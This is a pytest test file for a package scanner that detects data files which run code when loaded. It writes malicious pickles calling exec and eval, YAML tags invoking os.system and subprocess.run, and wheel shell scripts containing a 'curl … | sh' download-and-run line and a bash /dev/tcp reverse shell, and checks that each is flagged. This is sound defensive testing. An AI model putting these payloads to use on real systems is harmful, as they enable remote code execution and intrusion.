"""Data that calls programs, and a wheel's shell scripts. Nothing of it is loaded or run."""

import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from package_gate.scanners.behaviour import data_files
from package_gate.scanners.behaviour.data_files import of_data_files


class Calls:
    """Is pickled as a call of a function."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call


def found(tree: Path) -> list[str]:
    return [f"{path} {each.rule} {each.code}" for path, each in of_data_files(tree)]


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("name", ["model.pkl", "weights.bin", "logo.png"])
def test_a_pickle_that_calls_a_program_is_named(tmp_path: Path, protocol: int, name: str) -> None:
    content = {"a": 1, "b": Calls(exec, "print(1)")}
    (tmp_path / name).write_bytes(b"x" * 10 + pickle.dumps(content, protocol))

    (only,) = found(tmp_path)

    assert only.startswith(f"{name} runs-when-unpickled ")
    assert only.endswith(".exec")


def test_it_is_found_in_an_archive_that_does_not_compress(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "model.pt", "w") as archive:
        archive.writestr("data.pkl", pickle.dumps(Calls(eval, "1")))

    assert len(found(tmp_path)) == 1


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_a_pickle_of_data_is_not(tmp_path: Path, protocol: int) -> None:
    content = {"os": ["system"], "exec": "builtins", "path": Path("a"), "set": {1}, "c": complex}
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(content, protocol))

    assert found(tmp_path) == []


@pytest.mark.parametrize("before", [0, 1, 7, 60, 64, 70, 127, 128, 200])
def test_it_is_found_wherever_a_large_file_has_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, before: int
) -> None:
    monkeypatch.setattr(data_files, "_WINDOW", 64)
    monkeypatch.setattr(data_files, "_OVERLAP", 40)
    content = b"x" * before + pickle.dumps(Calls(exec, "1"), 4) + b"y" * 300
    (tmp_path / "weights.bin").write_bytes(content)

    assert found(tmp_path) == ["weights.bin runs-when-unpickled builtins.exec"]


def test_neither_is_a_library(tmp_path: Path) -> None:
    (tmp_path / "lib.so.12").write_bytes(b"\x7fELF" + pickle.dumps(Calls(exec, "1")))

    assert found(tmp_path) == []


@pytest.mark.parametrize(
    ("text", "called"),
    [
        ("a: !!python/object/apply:os.system ['id']", ["os.system"]),
        ("a: !<tag:yaml.org,2002:python/object/new:subprocess.run> []", ["subprocess.run"]),
        ("a: !!python/tuple [1, 2]\n# python/object", []),
    ],
)
def test_yaml_that_calls_something_is_named(tmp_path: Path, text: str, called: list[str]) -> None:
    (tmp_path / "settings.yaml").write_text(text)

    assert found(tmp_path) == [f"settings.yaml runs-when-unpickled {each}" for each in called]


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("#!/bin/sh\nset -e\ncurl https://a.example/x | sh\n", ["runs-downloaded-code"]),
        ("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", ["opens-a-reverse-shell"]),
        ("#!/bin/bash\nuntil (echo > /dev/tcp/127.0.0.1/8080); do sleep 1; done\n", []),
        ("#!/bin/sh\nexec java -jar demo.jar\n", []),
        ("curl https://a.example/x | sh\n", []),
    ],
)
def test_commands_in_a_wheels_shell_scripts_are_looked_at(
    tmp_path: Path, text: str, rules: list[str]
) -> None:
    for folder in ("demo-1.0.data/scripts", "docs"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "demo").write_text(text)

    assert [each.rule for _, each in of_data_files(tmp_path)] == rules
